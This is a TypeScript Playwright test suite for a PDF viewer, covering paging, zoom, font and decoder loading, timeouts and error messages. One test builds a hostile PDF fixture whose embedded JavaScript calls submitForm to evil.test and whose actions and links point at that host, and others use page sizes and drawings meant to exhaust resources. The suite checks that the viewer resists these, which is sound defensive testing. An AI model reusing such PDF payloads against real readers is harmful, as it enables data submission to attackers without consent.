import type { Page, Route } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { type Office, openOffice } from "./support/office.ts";
import { asData, pdfOf, streamOf } from "./support/pdf.ts";
import { ItemSeats } from "./support/items.ts";
import type { SeatOptions } from "./support/seat.ts";
import { faultsOn } from "./support/sound.ts";

let office: Office;
const seats = new ItemSeats();
beforeAll(async () => {
  office = await openOffice({}, "kinds");
});
afterEach(async () => {
  await seats.leave();
  await office.empty();
});
afterAll(() => office.stop());

/** Files of the host that the flow allows, and everything that is asked of any other host. */
async function open(
  document: unknown,
  files: Readonly<Record<string, Buffer | Promise<Buffer>>> = {},
  { listen = () => undefined, ...options }: SeatOptions & { readonly listen?: (page: Page) => unknown } = {},
) {
  await office.submit({ title: "A document", document });
  const asked: string[] = [];
  const answer = async (route: Route): Promise<void> => {
    const url = route.request().url();
    const body = await files[new URL(url).pathname.slice(1)];
    if (body === undefined) asked.push(url);
    return body === undefined
      ? route.abort()
      : route.fulfill({ body, contentType: "application/pdf", headers: { "access-control-allow-origin": "*" } });
  };
  const before = async (page: Page): Promise<void> => {
    listen(page);
    await page.route(/^https:\/\/[^/]*\.(example|test)\//, answer);
  };
  return { page: await seats.take(office, "A document", { ...options, before }), asked };
}

const pages = (page: Page) => page.getByRole("group", { name: "Document" });
/** How many pixels of the first page's drawing are dark. */
const inkOn = (page: Page): Promise<number> =>
  page.evaluate(`(() => {
    const canvas = document.querySelector(".pdf-page canvas");
    const copy = new OffscreenCanvas(canvas.width, canvas.height).getContext("2d");
    copy.drawImage(canvas, 0, 0);
    return copy.getImageData(0, 0, canvas.width, canvas.height).data.filter((value, at) => at % 4 === 0 && value < 100).length;
  })()`);

test("a PDF of 100 pages shows its first page; keys turn and zoom, and only what is in sight is drawn", async () => {
  const { page } = await open("https://files.example/long.pdf", { "long.pdf": pdfOf(100) });
  await page.keyboard.press("n");
  await page.keyboard.type("typed while it loads");
  expect(await page.locator("textarea").inputValue()).toBe("typed while it loads");
  await page.getByText("This is page 1", { exact: true }).waitFor();
  await expect.poll(() => inkOn(page)).toBeGreaterThan(500);
  await pages(page).focus();
  await page.keyboard.press("PageDown");
  await page.getByText("Page 2 of 100", { exact: true }).waitFor();
  await page.getByText("This is page 3", { exact: true }).waitFor({ state: "attached" });
  expect(await pages(page).locator("canvas").count()).toBeLessThan(6);
  const width = (): Promise<number> =>
    pages(page)
      .locator("canvas")
      .last()
      .evaluate((element) => element.clientWidth);
  const whole = await width();
  await page.keyboard.press("+");
  await expect.poll(width).toBeGreaterThan(1.4 * whole);
  await page.getByText("Page 2 of 100", { exact: true }).waitFor();
  await page.keyboard.press("-");
  await expect.poll(width).toBe(whole);
  await page.getByRole("button", { name: "Previous page" }).click();
  await page.getByText("Page 1 of 100", { exact: true }).waitFor();
  expect(await faultsOn(page)).toEqual([]);
});

test("a PDF with scripts and links does nothing of what they say; its text is there", async () => {
  const script = "app.alert('harmed'); this.submitForm('https://evil.test/form');";
  const catalogue = `/OpenAction<</S/JavaScript/JS(${script})>>/AA<</WC<</S/URI/URI(https://evil.test/closed)>>>>`;
  const page = `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 900 900]/A<</S/URI/URI(https://evil.test/link)>>>>]/AA<</O<</S/JavaScript/JS(${script})>>>>`;
  const { page: window, asked } = await open(asData(pdfOf(2, { catalogue, page })));
  await window.getByText("This is page 1", { exact: true }).waitFor();
  await pages(window).getByText("Line 3 of page 1", { exact: true }).click({ force: true });
  expect(await window.locator("article a").count()).toBe(0);
  expect(asked).toEqual([]);
});

test("a page of a thousand kilometres says that it cannot be drawn, a huge square one is drawn small", async () => {
  const { page } = await open(asData(pdfOf(1, { size: [10, 2_000_000] })));
  await page.getByText("This page cannot be drawn.").waitFor();
  await page.keyboard.press("1");
  await office.submit({ title: "Square", document: asData(pdfOf(1, { size: [2_000_000, 2_000_000] })) });
  await page.getByRole("heading", { name: "Square" }).waitFor();
  await pages(page).locator("canvas").waitFor();
  const size = "(({ width, height }) => width * height)(document.querySelector('.pdf-page canvas'))";
  const pixels = await page.evaluate<number>(size);
  expect(pixels).toBeLessThan(8_100_000);
});

test("what some PDFs need beside them comes from the page itself: East Asian characters, decoders of pictures", async () => {
  const parts: string[] = [];
  const font =
    "<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/UniGB-UCS2-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType0/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor<</Type/FontDescriptor/FontName/SimSun/Flags 4>>>>]>>";
  // The size of a picture of 8 by 8, and nothing of the picture: its decoder is asked for.
  const size = `\xFF\x51${"\0".repeat(4)}\0\0\0\x08\0\0\0\x08${"\0".repeat(24)}\0\x01${"\0".repeat(20)}`;
  const image = (filter: string): string =>
    streamOf(size, `/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/${filter}`);
  const pdf = pdfOf(1, {
    resources: "/Font<</F 3 0 R/G 6 0 R>>/XObject<</J 7 0 R/K 8 0 R>>",
    objects: [font, image("JPXDecode"), image("JBIG2Decode")],
    drawn: "BT /G 24 Tf 40 60 Td <4F60597D> Tj ET q 90 0 0 90 300 60 cm /J Do Q q 90 0 0 90 400 60 cm /K Do Q",
  });
  const { page } = await open(
    "https://files.example/parts.pdf",
    { "parts.pdf": pdf },
    {
      listen: (own) =>
        own.on("response", (response) => {
          const [, part] = /assets\/pdf-[\d-]+\/(.*)$/u.exec(response.url()) ?? [];
          if (part !== undefined && response.ok()) parts.push(part);
        }),
    },
  );
  await page.getByText("你好").waitFor({ state: "attached" });
  await expect
    .poll(() => parts)
    .toEqual(
      expect.arrayContaining([
        "cmaps/UniGB-UCS2-H.bcmap",
        "wasm/openjpeg_nowasm_fallback.js",
        "wasm/jbig2_nowasm_fallback.js",
      ]),
    );
});

test("keys are taken while a heavy page is drawn", async () => {
  const circles = Array.from({ length: 8_000 }, (_, at) => `${at % 600} ${at % 800} 300 300 re S`).join("\n");
  const { page } = await open("https://files.example/slow.pdf", { "slow.pdf": pdfOf(3, { drawn: circles }) });
  await page.getByRole("group", { name: "Page 1 of 3" }).waitFor();
  const held = longestShareHeld(page);
  await page.keyboard.press("n");
  await page.keyboard.type("typed meanwhile");
  expect(await page.locator("textarea").inputValue()).toBe("typed meanwhile");
  expect(await held).toBeLessThan(1 / 3);
});

/** For how much of the time until the first page is drawn no key could be taken at a stretch. */
const longestShareHeld = (page: Page): Promise<number> =>
  page.evaluate(`new Promise((resolve) => {
    const began = performance.now();
    let [last, longest] = [began, 0];
    const tick = setInterval(() => {
      const now = performance.now();
      longest = Math.max(longest, now - last);
      last = now;
      if (!document.querySelector(".pdf-page canvas")) return;
      clearInterval(tick);
      resolve(longest / (now - began));
    }, 5);
  })`);

/** As long as anybody waits for a PDF; milliseconds. */
const PATIENCE = 20_000;
const TOO_SLOW = "The PDF takes too long to be shown.";

test("a PDF that never comes is waited for 20 seconds", async () => {
  const [asked, never] = [Promise.withResolvers<void>(), Promise.withResolvers<Buffer>()];
  const listen = (page: Page) => page.on("request", (one) => void (/never/.test(one.url()) && asked.resolve()));
  const files = { "never.pdf": never.promise };
  const { page } = await open("https://files.example/never.pdf", files, { clock: true, listen });
  await asked.promise;
  expect(await page.getByText(TOO_SLOW).count()).toBe(0);
  await page.clock.fastForward(PATIENCE);
  await page.getByText(TOO_SLOW).waitFor();
});

test("a page whose drawing does not end is given up after 20 seconds, and nothing works on it any more", async () => {
  const circles = Array.from({ length: 150_000 }, (_, at) => `${at % 600} ${at % 800} 300 300 re S`).join("\n");
  const files = { "endless.pdf": pdfOf(1, { drawn: circles }) };
  const { page } = await open("https://files.example/endless.pdf", files, { clock: true });
  await page.getByRole("group", { name: "Page 1 of 1" }).waitFor();
  expect(page.workers().length).toBeGreaterThan(0);
  await page.clock.fastForward(PATIENCE);
  await page.getByText(TOO_SLOW).waitFor();
  await expect.poll(() => page.workers().length).toBe(0);
});

/** Of a password that nobody knows. */
const LOCK = `/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/O(${"o".repeat(32)})/U(${"u".repeat(32)})/P -4>>`;

test.each([
  ["no PDF", asData(Buffer.from("<html>")), "This is no PDF that can be read"],
  ["cut off", asData(pdfOf(3).subarray(0, 300)), "This is no PDF that can be read"],
  ["locked", asData(pdfOf(1, { trailer: LOCK })), "The PDF cannot be shown: it asks for a password."],
  ["another type", "data:text/html,hello", "There is no PDF here that can be shown."],
  ["a number", 7, "There is no PDF here that can be shown."],
  ["another host", "https://evil.test/a.pdf", "this flow does not allow files from this host"],
])("what is no PDF says so, and is there as it was sent: %s", async (_what, document, sentence) => {
  const { page, asked } = await open(document);
  await page.getByText(sentence).waitFor();
  await page.getByText("As it was sent").click();
  expect(asked).toEqual([]);
});
